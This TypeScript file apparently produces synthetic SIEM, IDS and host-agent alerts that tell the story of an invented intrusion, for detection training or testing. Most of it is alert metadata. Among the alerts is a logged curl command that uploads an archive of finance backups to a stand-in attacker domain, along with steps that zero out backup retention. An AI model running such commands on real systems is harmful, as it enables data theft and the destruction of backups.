import { at, FOES, IMPLANT, MACHINES, PEOPLE } from './cast.ts';
import { elasticAlert, suricataAlert, wazuhAlert, type Flow } from './others.ts';

/* The intrusion as the network sensor, the Linux agents and the SIEM saw it. */

const { tomasAdmin } = PEOPLE;
const { finance, files, vault } = MACHINES;

const beacon: Flow = { from: finance.ip, to: FOES.c2Ip, port: 443 };
const tls = { app_proto: 'tls', tls: { sni: FOES.c2Domain, version: 'TLS 1.3', ja4: 't13d1516h2_8daaf6152771_02713d6af862' } };
const beaconAt = (clock: string): Readonly<Record<string, unknown>> =>
  suricataAlert({
    time: at(clock),
    flow: beacon,
    id: 9000101,
    signature: 'HL MALWARE Loader check-in (TLS SNI cdn-assets-sync)',
    category: 'Malware Command and Control Activity Detected',
    severity: 1,
    metadata: {
      attack_target: ['Client_Endpoint'],
      mitre_tactic_id: ['TA0011'],
      mitre_technique_id: ['T1071.001'],
      signature_severity: ['Major'],
    },
    context: tls,
  });
const upload = (clock: string, from: string): Readonly<Record<string, unknown>> =>
  suricataAlert({
    time: at(clock),
    flow: { from, to: FOES.dropIp, port: 443 },
    id: 9000140,
    signature: 'HL POLICY Large upload to an unclassified host',
    category: 'Potential Corporate Privacy Violation',
    severity: 2,
    metadata: { mitre_tactic_id: ['TA0010'], mitre_technique_id: ['T1567.002'] },
    context: {
      app_proto: 'tls',
      tls: { sni: FOES.dropDomain, version: 'TLS 1.3' },
      flow: { bytes_toserver: 3_121_004_120, bytes_toclient: 4_100_233 },
    },
  });

export const onTheWire = {
  suricata: [
    ...['08:10:33', '08:25:34', '08:40:36', '08:55:35', '09:10:37', '09:25:36'].map(beaconAt),
    suricataAlert({
      time: at('09:48:14'),
      flow: { from: finance.ip, to: files.ip, port: 445 },
      id: 9000122,
      signature: 'HL LATERAL Service control manager over SMB from a workstation',
      category: 'Attempted Administrator Privilege Gain',
      severity: 1,
      metadata: { attack_target: ['Server'], mitre_tactic_id: ['TA0008'], mitre_technique_id: ['T1021.002'] },
      context: { app_proto: 'smb', smb: { dialect: '3.11', command: 'SMB2_COMMAND_CREATE', filename: 'svcctl', share: '\\\\FS-01\\IPC$' } },
    }),
    upload('10:16:40', files.ip),
    upload('10:27:02', files.ip),
    upload('10:41:18', vault.ip),
  ],
  wazuh: [
    wazuhAlert({
      time: at('10:05:31'),
      agent: vault,
      id: '100210',
      level: 10,
      description: 'sshd: first sign-in of this account from this address',
      groups: ['syslog', 'sshd', 'authentication_success'],
      mitre: { id: ['T1021.004', 'T1078'], tactic: ['Lateral Movement', 'Initial Access'], technique: ['SSH', 'Valid Accounts'] },
      data: { srcip: files.ip, srcport: '50122', dstuser: tomasAdmin.account },
      program: 'sshd',
      log: `Mar 10 10:05:31 bk-01 sshd[20811]: Accepted password for ${tomasAdmin.account} from ${files.ip} port 50122 ssh2`,
    }),
    wazuhAlert({
      time: at('10:07:12'),
      agent: vault,
      id: '5402',
      level: 8,
      description: 'Successful sudo to root by an account that rarely uses it',
      groups: ['syslog', 'sudo'],
      mitre: { id: ['T1548.003'], tactic: ['Privilege Escalation', 'Defense Evasion'], technique: ['Sudo and Sudo Caching'] },
      data: { srcuser: tomasAdmin.account, dstuser: 'root', command: '/bin/bash' },
      program: 'sudo',
      log: `Mar 10 10:07:12 bk-01 sudo: ${tomasAdmin.account} : TTY=pts/1 ; PWD=/home ; USER=root ; COMMAND=/bin/bash`,
    }),
    wazuhAlert({
      time: at('10:12:48'),
      agent: vault,
      id: '550',
      level: 12,
      description: 'Backup retention settings changed',
      groups: ['ossec', 'syscheck', 'syscheck_entry_modified'],
      mitre: { id: ['T1490'], tactic: ['Impact'], technique: ['Inhibit System Recovery'] },
      syscheck: {
        path: '/etc/backup/retention.conf',
        event: 'modified',
        uname_after: 'root',
        sha256_after: IMPLANT.sha256.split('').reverse().join(''),
      },
      program: 'syscheckd',
      location: 'syscheck',
      log: "File '/etc/backup/retention.conf' modified: 'keep_days' was 30, is 0",
    }),
  ],
  elastic: [
    elasticAlert({
      time: at('10:06:02'),
      rule: 'Interactive shell on a backup server by a Windows administrator',
      reason: `bash started by ${tomasAdmin.account} on bk-01 over SSH from ${files.ip}`,
      severity: 'medium',
      risk: 47,
      tactic: { id: 'TA0008', name: 'Lateral Movement' },
      technique: { id: 'T1021', name: 'Remote Services' },
      event: {
        host: { name: vault.name, hostname: vault.name, ip: [vault.ip], os: { platform: 'debian' } },
        user: { name: tomasAdmin.account, domain: 'harbourline' },
        source: { ip: files.ip },
        process: { name: 'bash', executable: '/bin/bash', pid: 20840, command_line: '-bash', parent: { name: 'sshd', pid: 20811 } },
      },
    }),
    elasticAlert({
      time: at('10:38:10'),
      rule: 'Archive of backup sets written to a temporary folder',
      reason: `tar wrote /tmp/.q1 on bk-01 as root`,
      severity: 'medium',
      risk: 52,
      tactic: { id: 'TA0009', name: 'Collection' },
      technique: { id: 'T1560', name: 'Archive Collected Data' },
      event: {
        host: { name: vault.name, ip: [vault.ip] },
        user: { name: 'root' },
        process: {
          name: 'tar',
          executable: '/usr/bin/tar',
          pid: 21377,
          command_line: 'tar czf /tmp/.q1 /srv/backup/finance',
          parent: { name: 'bash', pid: 20902 },
        },
        file: { path: '/tmp/.q1', name: '.q1' },
      },
    }),
    elasticAlert({
      time: at('10:41:12'),
      rule: 'Connection to a domain registered this week',
      reason: `curl on bk-01 connected to ${FOES.dropDomain}`,
      severity: 'high',
      risk: 73,
      tactic: { id: 'TA0010', name: 'Exfiltration' },
      technique: { id: 'T1567', name: 'Exfiltration Over Web Service' },
      event: {
        host: { name: vault.name, ip: [vault.ip] },
        user: { name: 'root' },
        process: {
          name: 'curl',
          executable: '/usr/bin/curl',
          pid: 21510,
          command_line: `curl -T /tmp/.q1 https://${FOES.dropDomain}/up`,
          parent: { name: 'bash', pid: 20902 },
        },
        source: { ip: vault.ip },
        destination: { ip: FOES.dropIp, port: 443, domain: FOES.dropDomain },
        'url.domain': FOES.dropDomain,
        'dns.question.name': FOES.dropDomain,
      },
    }),
  ],
};
